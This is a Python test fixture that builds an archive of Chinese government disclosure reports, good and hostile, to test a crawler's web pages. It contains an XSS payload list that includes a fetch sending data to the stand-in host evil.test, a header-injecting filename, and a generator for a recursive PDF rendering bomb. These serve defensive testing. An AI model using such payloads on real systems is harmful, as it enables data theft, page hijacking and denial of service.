"""An archive with reports in several formats, good and hostile, for tests of the web pages."""

from __future__ import annotations

import zlib
from dataclasses import dataclass
from html import escape
from importlib import resources
from pathlib import Path

from sqlalchemy import select
from sqlalchemy.orm import Session

from archive.adding import assign, store_file
from archive.database.models import Agency, Report
from archive.extraction import extract
from archive.folder import Archive
from archive.people import keep_assignments, keep_register
from crawler.sampleweb.figures import Figures, all_zero
from crawler.sampleweb.report import Report as Wording
from crawler.sampleweb.report import to_html
from crawler.sampleweb.wording import Voice

PLAIN = "示例市教育局"
PRINTED = "枞阳县金社镇人民政府"
WORD = "叶城县河园镇人民政府"
HOSTILE = "示例市<script>alert(1)</script>局"
BOMB = "示例市炸弹局"
UNEVEN = "示例市财政局"
YEAR = 2024
GRANTED = "requests.granted.natural_person"

ATTACK = """
<base href="http://evil.test/"><meta http-equiv="refresh" content="0;url=http://evil.test/moved">
<link rel="prefetch" href="http://evil.test/prefetched"><link rel="stylesheet" href="http://evil.test/a.css">
<style>@import url("http://evil.test/imported.css"); body{background:url(http://evil.test/background)}</style>
<script>window.ran = 1; fetch("/").then(r => r.text()).then(t => fetch("http://evil.test/stolen?" + t.length));
try { parent.document.title = "taken over" } catch (e) {} ; top.location = "http://evil.test/top"</script>
<img src="http://evil.test/picture" onerror="window.ran=1" alt='"><script>window.ran=1</script>'>
<img src=x onerror="parent.ran=1;fetch('/review')"><svg onload="window.ran=1"><script>window.ran=1</script>
<a xlink:href="javascript:window.ran=1"><text y="20">svg</text></a></svg>
<form action="/review/proposals" method="post" id="f"><input name="number" value="1"><button id="b">ok</button></form>
<a id="lure" href="javascript:window.ran=1" onclick="window.ran=1">click me to read on</a>
<a id="away" href="http://evil.test/away" target="_top">away</a>
<iframe srcdoc="<script>parent.parent.ran=1</script>"></iframe><object data="http://evil.test/o"></object>
<embed src="http://evil.test/e"><video src="http://evil.test/v" onerror="window.ran=1"></video>
<math><mtext><table><mglyph><style><img src=x onerror="window.ran=1"></style></mglyph></table></mtext></math>
<body onload="window.ran=1"><details open ontoggle="window.ran=1">x</details>
<p style="background:url(http://evil.test/p);position:fixed;inset:0" onmouseover="window.ran=1">styled</p>
"""
"""What a page may try against who looks at its copy."""


def sound(**changes: int) -> Figures:
    """Five requests received and granted; ``changes`` name keys with __ for the dot."""
    found = all_zero()
    for row in ("received_new", "granted", "processed_total"):
        found |= {f"requests.{row}.natural_person": 5, f"requests.{row}.total": 5}
    found["art20_5.licences.decisions"] = 83
    return found | {key.replace("__", "."): value for key, value in changes.items()}


def page(name: str, figures: Figures, *, more: str = "", text: str = "") -> bytes:
    """A report as a web page; ``more`` is markup after it, ``text`` a sentence of section 一."""
    title = f"{name}{YEAR}年政府信息公开工作年度报告"
    report = Wording(title, Voice(name, "本局"), YEAR, figures, extra=text)
    return (
        f"<html><head><title>{escape(title)}</title></head><body>"
        f"<h1>{escape(title)}</h1><div>{to_html(report)}</div>{more}</body></html>"
    ).encode()


def bomb() -> bytes:
    """A PDF whose page calls a form that calls the next ten times, and so on: 10 to the power of 12 lines."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</XObject<</F 5 0 R>>>>/Contents 4 0 R>>",
        _stream(b"/F Do"),
    ]
    depth = 12
    for level in range(depth):
        if level == depth - 1:
            objects.append(
                _stream(b"0 0 m 500 800 l S", b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]")
            )
        else:
            objects.append(
                _stream(
                    b"/F Do " * 10,
                    b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</F %d 0 R>>>>"
                    % (6 + level),
                )
            )
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj" % number + body + b"endobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


def _stream(content: bytes, entries: bytes = b"") -> bytes:
    packed = zlib.compress(content)
    return b"<<%s/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (
        entries,
        len(packed),
        packed,
    )


@dataclass
class Reported:
    """The archive, and where the pages of its reports are."""

    archive: Archive

    def address(self, name: str) -> str:
        """The page of an agency's report."""
        with self.archive.reader() as session:
            report = self._report(session, name)
            return f"/reports/{report.agency_id}/{report.year}/{report.scope}"

    def sha256(self, name: str) -> str:
        """The digest of the latest version of its document."""
        with self.archive.reader() as session:
            return self._report(session, name).versions[-1].sha256

    def place(self, name: str) -> str:
        """The page of the stored exchange that its document came with."""
        with self.archive.reader() as session:
            capture = self._report(session, name).versions[-1].capture
            return f"/captures/{capture.warc}/{capture.offset}"

    @staticmethod
    def _report(session: Session, name: str) -> Report:
        query = select(Report).join(Agency).where(Agency.name == name)
        return session.scalars(query).one()


def make(folder: Path) -> Reported:
    """The archive in a new folder, with every document read."""
    archive = Archive.create(folder / "archive")
    made = resources.files("crawler.sampleweb") / "documents"
    documents: list[tuple[str, str, bytes]] = [
        (PLAIN, "first.html", page(PLAIN, sound(), text="全年培训三次。")),
        (
            PLAIN,
            "second.html",
            page(PLAIN, sound(art20_5__licences__decisions=102), text="全年培训四次。"),
        ),
        (UNEVEN, "uneven.html", page(UNEVEN, sound(requests__granted__natural_person=6))),
        (HOSTILE, 'a"; filename="x\r\n.html', page(HOSTILE, sound(), more=ATTACK)),
        (PRINTED, "printed.pdf", (made / "jinshe-2024.pdf").read_bytes()),
        (WORD, "word.docx", (made / "heyuan-2024.docx").read_bytes()),
        (BOMB, "bomb.pdf", bomb()),
    ]
    with archive.session() as session:
        agencies = {
            name: Agency(name=name, kind="local_dept", division_code="", origin="test")
            for name, _, _ in documents
        }
        session.add_all(agencies.values())
        session.commit()
        for number, (name, file, data) in enumerate(documents):
            place = folder / f"{number}"
            place.mkdir()
            path = place / file.replace("/", "_")
            path.write_bytes(data)
            assign(session, store_file(archive, session, path), agencies[name], YEAR)
            session.commit()
    keep_register(archive)
    keep_assignments(archive)
    # The bomb would keep a reader busy for a minute.
    archive.settings.extract.seconds = 2
    extract(archive)
    return Reported(archive)
